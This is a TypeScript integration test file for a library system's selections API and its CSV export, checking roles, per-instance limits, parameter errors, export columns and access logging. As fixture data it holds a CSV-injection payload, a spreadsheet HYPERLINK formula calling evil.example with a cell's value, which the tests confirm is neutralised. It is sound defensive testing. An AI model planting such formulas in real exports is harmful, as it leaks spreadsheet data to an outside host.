/*
 * Selections over the API, against a real database, as bearer-token callers: GET selections and
 * GET selections/export (INTERFACES.md). The role table (manager and admin; ops and support 403),
 * instance ties (403 for another instance), 400 naming the parameter for every bad one, the CSV
 * columns and order, formula-safe cells (OWASP CSV injection), the items' last borrower, and the
 * access-log entry of each export (who, the criteria, the columns, the rows: never the rows' values).
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { eq, isNotNull, sql } from 'drizzle-orm';
import { describe, expect, it, vi } from 'vitest';

vi.mock('next/headers', async () => (await import('./helpers/next-request')).nextHeadersMock);
vi.mock('next/navigation', async () => (await import('./helpers/next-request')).nextNavigationMock);
vi.mock('next/cache', async () => (await import('./helpers/next-request')).nextCacheMock);

import { GET as exportGET } from '@/app/api/v1/selections/export/route';
import { GET as selectionGET } from '@/app/api/v1/selections/route';
import { accessLog, apiTokens } from '@/db/schema';
import { createApiToken } from '@/lib/auth/tokens';
import { loadScenario } from '@/lib/scenario/load';
import { parseScenarioText } from '@/lib/scenario/schema';
import { formulaSafe } from '@/lib/selections/export';
import { setupTestDatabase } from './helpers/db';
import { pointServerAtDatabase } from './helpers/next-request';

const t = await setupTestDatabase('selections_api');
pointServerAtDatabase(t.url);
const BY = { label: 'selections api test', userId: null };
const made = {
  manager: await createApiToken(t.db, { role: 'manager', name: 'm', by: BY }),
  ops: await createApiToken(t.db, { role: 'ops', name: 'o', by: BY }),
  support: await createApiToken(t.db, { role: 'support', name: 's', by: BY }),
  admin: await createApiToken(t.db, { role: 'admin', name: 'a', by: BY }),
  tied: await createApiToken(t.db, { role: 'manager', name: 'tied to 2', by: BY }),
};
await t.db.update(apiTokens).set({ instanceId: 2 }).where(eq(apiTokens.id, made.tied.tokenId));
const tokens = Object.fromEntries(Object.entries(made).map(([k, v]) => [k, v.token])) as Record<keyof typeof made, string>;

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const abon = (instanceId: number, startDate: string, endDate: string | null) => ({ instanceId, type: 'ABON', status: 9, startDate, endDate });
const loan = (itemId: string, loanedOn: string, returnedOn: string | null, instanceId = 1) => ({ instanceId, itemId, loanedOn, returnedOn });

await loadScenario(
  t.db,
  parseScenarioText(
    JSON.stringify({
      settings: { inactiveActorMonths: 0, financialMonths: 0, historyMonths: 0, personalDataMonths: 0, optOutLoanDays: 0 },
      instances: [
        { id: 1, name: 'Bibliotheek Een' },
        { id: 2, name: 'Bibliotheek Twee' },
      ],
      actors: [
        {
          actorId: 9001,
          registeredOn: '2015-01-01',
          loanHistoryOptIn: true,
          personal: { name: HYPERLINK, street: '-1 Dijkstraat', postalCode: '@1234', city: '\tTiel', district: '\rNoord', email: 'a@x.test', phone: '+31 6 1234 5678' },
          roles: [abon(1, '2015-01-01', null)],
          loans: [loan('B-2', '2026-03-01', '2026-03-10'), loan('a-1', '2026-03-05', '2026-03-06')],
        },
        {
          actorId: 9002,
          registeredOn: '2016-02-29',
          loanHistoryOptIn: false,
          personal: { name: 'Bea Elders', city: 'Culemborg' },
          roles: [abon(1, '2016-02-29', '2025-01-01'), abon(2, '2025-01-01', null)],
          loans: [loan('B-2', '2026-04-01', null), loan('B-2', '2026-02-01', '2026-02-03', 2)],
        },
        { actorId: 9003, registeredOn: '2017-01-01', roles: [abon(1, '2017-01-01', '2025-06-01')], loans: [loan('a-1', '2026-02-01', '2026-02-02')] },
        { actorId: 9004, registeredOn: '2018-01-01', roles: [abon(2, '2018-01-01', null)] },
        // A removal request ends every membership on its date: inactive from then on.
        { actorId: 9005, registeredOn: '2019-01-01', roles: [abon(1, '2019-01-01', null)], removalRequestedOn: '2026-10-01' },
        // A member of instance 1 whose membership ends after the as-of date: still running.
        { actorId: 9006, registeredOn: '2020-01-01', roles: [abon(1, '2020-01-01', '2026-12-02')] },
      ],
    }),
  ),
  { replace: true, by: 'test', reason: 'api test' },
);
// Two anonymized loans of instance 1 (the cleanup's result: no actor, the statistics kept).
await t.db.execute(sql`insert into loans (actor_id, instance_id, item_id, loaned_on, returned_on, anonymized_on, membership_type)
  values (null, 1, 'B-10', '2026-05-01', '2026-05-02', '2026-08-01', 'ABON'), (null, 1, 'B-2', '2026-03-20', '2026-03-21', '2026-06-21', 'ABON')`);

const AS_OF = '2026-12-01';
const PERIOD = 'borrowedFrom=2026-01-01&borrowedTo=2026-06-30';

function get(handler: (r: Request, c: object) => Promise<Response>, path: string, query: string, token?: string) {
  const request = new Request(`http://localhost/api/v1/${path}?${query}`, { headers: token ? { Authorization: `Bearer ${token}` } : {} });
  return handler(request, {});
}
// `null`: no credentials at all (an `undefined` argument would take the default).
const select = (query: string, token: string | null = tokens.manager) => get(selectionGET, 'selections', query, token ?? undefined);
const exportCsv = (query: string, token: string | null = tokens.manager) => get(exportGET, 'selections/export', query, token ?? undefined);

describe('GET selections', () => {
  it('is for manager and admin: 401 without credentials, 403 for ops and support', async () => {
    expect((await select('instanceId=1', null)).status).toBe(401);
    expect((await select('instanceId=1', tokens.ops)).status).toBe(403);
    expect((await select('instanceId=1', tokens.support)).status).toBe(403);
    expect((await select('instanceId=1', tokens.admin)).status).toBe(200);
    expect((await select('instanceId=1')).status).toBe(200);
  });

  it('counts the three membership states of the instance as of the date', async () => {
    const body = await (await select(`instanceId=1&asOf=${AS_OF}`)).json();
    expect(body).toEqual({
      asOf: AS_OF,
      instanceId: 1,
      criteria: { membership: 'member', loanHistoryOptIn: null, borrowedFrom: null, borrowedTo: null },
      actors: 5,
      byMembership: { active_here: 2, active_elsewhere: 1, inactive: 2 },
      loans: null,
    });
    const wise = await (await select(`instanceId=1&asOf=${AS_OF}&membership=wise_active`)).json();
    expect(wise.actors).toBe(3);
    // The day the membership ends it no longer runs.
    const later = await (await select('instanceId=1&asOf=2026-12-02&membership=active_here')).json();
    expect(later.actors).toBe(1);
  });

  it('narrows by opt-in and by the borrowing period over linked loans, and covers the period\u2019s loans', async () => {
    const body = await (await select(`instanceId=1&asOf=${AS_OF}&${PERIOD}&loanHistoryOptIn=false`)).json();
    expect(body.actors).toBe(1);
    expect(body.byMembership).toEqual({ active_here: 0, active_elsewhere: 1, inactive: 0 });
    expect(body.loans).toEqual({ from: '2026-01-01', to: '2026-06-30', total: 6, linked: 4, anonymized: 2 });
    const inactive = await (await select(`instanceId=1&asOf=${AS_OF}&${PERIOD}&membership=inactive`)).json();
    expect(inactive.actors).toBe(1);
  });

  it.each([
    ['instanceId=999', 'instanceId'],
    ['instanceId=x', 'instanceId'],
    ['instanceId=0', 'instanceId'],
    ['instanceId=1&borrowedFrom=2026-01-01', 'borrowedTo'],
    ['instanceId=1&borrowedTo=2026-01-01', 'borrowedFrom'],
    ['instanceId=1&borrowedFrom=2026-02-01&borrowedTo=2026-01-31', 'borrowedTo'],
    ['instanceId=1&borrowedFrom=2026-02-30&borrowedTo=2026-03-01', 'borrowedFrom'],
    ['instanceId=1&membership=active', 'membership'],
    ['instanceId=1&loanHistoryOptIn=yes', 'loanHistoryOptIn'],
    ['instanceId=1&asOf=2026-13-01', 'asOf'],
    ['instanceId=1&colour=red', 'colour'],
    ['instanceId=1&instanceId=2', 'instanceId'],
    ['membership=member', 'instanceId'],
  ])('answers %s with 400 naming %s', async (query, parameter) => {
    const response = await select(query);
    expect(response.status).toBe(400);
    expect((await response.json()).error.parameter).toBe(parameter);
  });

  it('limits a caller tied to an instance to it: theirs by default, 403 for another', async () => {
    const own = await (await select(`asOf=${AS_OF}`, tokens.tied)).json();
    expect(own.instanceId).toBe(2);
    expect(own.byMembership).toEqual({ active_here: 2, active_elsewhere: 0, inactive: 0 });
    expect((await select('instanceId=2', tokens.tied)).status).toBe(200);
    expect((await select('instanceId=1', tokens.tied)).status).toBe(403);
    expect((await exportCsv('set=customers&instanceId=1', tokens.tied)).status).toBe(403);
  });
});

async function latestExport() {
  const [entry] = await t.db.select().from(accessLog).where(isNotNull(accessLog.exportDetails)).orderBy(sql`${accessLog.id} desc`).limit(1);
  return entry;
}

async function csvRows(response: Response): Promise<string[][]> {
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="(customers|items)_instance-\d+_\d{4}-\d\d-\d\d\.csv"$/);
  return parseCsv(await response.text(), { relax_column_count: false }) as string[][];
}

describe('GET selections/export', () => {
  it('is for manager and admin', async () => {
    expect((await exportCsv('set=customers&instanceId=1', null)).status).toBe(401);
    expect((await exportCsv('set=customers&instanceId=1', tokens.ops)).status).toBe(403);
    expect((await exportCsv('set=customers&instanceId=1', tokens.support)).status).toBe(403);
    expect((await exportCsv('set=customers&instanceId=1', tokens.admin)).status).toBe(200);
  });

  it('gives the customers by actor id with the fixed columns and no personal ones unless asked', async () => {
    const rows = await csvRows(await exportCsv(`set=customers&instanceId=1&asOf=${AS_OF}`));
    expect(rows).toEqual([
      ['actor_id', 'membership', 'loan_history_opt_in', 'registered_on', 'loans'],
      ['9001', 'active_here', 'true', '2015-01-01', ''],
      ['9002', 'active_elsewhere', 'false', '2016-02-29', ''],
      ['9003', 'inactive', 'true', '2017-01-01', ''],
      ['9005', 'inactive', 'true', '2019-01-01', ''],
      ['9006', 'active_here', 'true', '2020-01-01', ''],
    ]);
  });

  it('adds the personal columns in the order asked, every formula-like cell prefixed with a quote', async () => {
    const rows = await csvRows(await exportCsv(`set=customers&instanceId=1&asOf=${AS_OF}&${PERIOD}&membership=active_here&columns=phone,name,street,postal_code,city,district,email`));
    expect(rows[0]).toEqual(['actor_id', 'membership', 'loan_history_opt_in', 'registered_on', 'loans', 'phone', 'name', 'street', 'postal_code', 'city', 'district', 'email']);
    expect(rows.slice(1)).toEqual([['9001', 'active_here', 'true', '2015-01-01', '2', "'+31 6 1234 5678", `'${HYPERLINK}`, "'-1 Dijkstraat", "'@1234", "'\tTiel", "'\rNoord", 'a@x.test']]);
  });

  it('guards every cell that starts like a formula (OWASP), and only those', () => {
    for (const c of ['=1+1', '+31', '-2', '@SUM(A1)', '\tx', '\rx']) expect(formulaSafe(c)).toBe(`'${c}`);
    for (const c of ['Anna', '1=1', 'a+b', '', ' =x']) expect(formulaSafe(c)).toBe(c);
  });

  it('gives the items of the period by item id in byte order, with the last borrower (never an anonymized one)', async () => {
    const rows = await csvRows(await exportCsv(`set=items&instanceId=1&asOf=${AS_OF}&${PERIOD}&membership=inactive&loanHistoryOptIn=true&columns=name`));
    expect(rows).toEqual([
      ['item_id', 'loans', 'anonymized_loans', 'last_borrower', 'name'],
      // B-10: its only loan is anonymized, so no borrower. B-2: the open loan of 9002 comes first.
      ['B-10', '1', '1', '', ''],
      ['B-2', '3', '1', '9002', 'Bea Elders'],
      // a-1: 9001 loaned it last (the customer criteria do not apply to the items export).
      ['a-1', '2', '0', '9001', `'${HYPERLINK}`],
    ]);
  });

  it.each([
    ['instanceId=1', 'set'],
    ['set=people&instanceId=1', 'set'],
    ['set=items&instanceId=1', 'borrowedFrom'],
    ['set=customers&instanceId=1&columns=name,nickname', 'columns'],
    ['set=customers&instanceId=1&columns=name,email,name', 'columns'],
    ['set=customers&instanceId=1&membership=gone', 'membership'],
    ['set=customers&instanceId=404', 'instanceId'],
    ['set=customers&instanceId=1&borrowedTo=2026-01-01', 'borrowedFrom'],
  ])('answers %s with 400 naming %s, and logs nothing', async (query, parameter) => {
    const before = await t.db.$count(accessLog, isNotNull(accessLog.exportDetails));
    const response = await exportCsv(query);
    expect(response.status).toBe(400);
    expect((await response.json()).error.parameter).toBe(parameter);
    expect(await t.db.$count(accessLog, isNotNull(accessLog.exportDetails))).toBe(before);
  });

  it('writes each export to the access log: who, the criteria, the columns and the rows, never the values', async () => {
    await csvRows(await exportCsv(`set=customers&instanceId=1&asOf=${AS_OF}&loanHistoryOptIn=true&columns=name,phone`, tokens.admin));
    // The row count is added once the last row has gone out.
    await expect.poll(async () => (await latestExport())!.exportDetails!.rows).toBe(4);
    const entry = await latestExport();
    expect(entry).toMatchObject({ callerKind: 'token', callerId: made.admin.tokenId, callerLabel: 'a', actorId: null, asOf: AS_OF, via: 'api' });
    expect(entry!.exportDetails).toEqual({
      set: 'customers',
      instanceId: 1,
      criteria: { membership: 'member', loanHistoryOptIn: true, borrowedFrom: null, borrowedTo: null },
      columns: ['actor_id', 'membership', 'loan_history_opt_in', 'registered_on', 'loans', 'name', 'phone'],
      rows: 4,
      complete: true,
    });
    expect(JSON.stringify(entry)).not.toContain('HYPERLINK');
    expect(JSON.stringify(entry)).not.toContain('+31');
  });

  it('logs a download that breaks off as incomplete and frees its connection', async () => {
    const response = await exportCsv(`set=customers&instanceId=1&asOf=${AS_OF}`);
    // Cancelled before the first row is read (a closed browser tab).
    await response.body!.cancel();
    await expect.poll(async () => (await latestExport())!.exportDetails!.complete).toBe(false);
    // The pool still answers (the broken-off cursor's connection was not handed back half-used).
    expect((await select('instanceId=1')).status).toBe(200);
  });
});
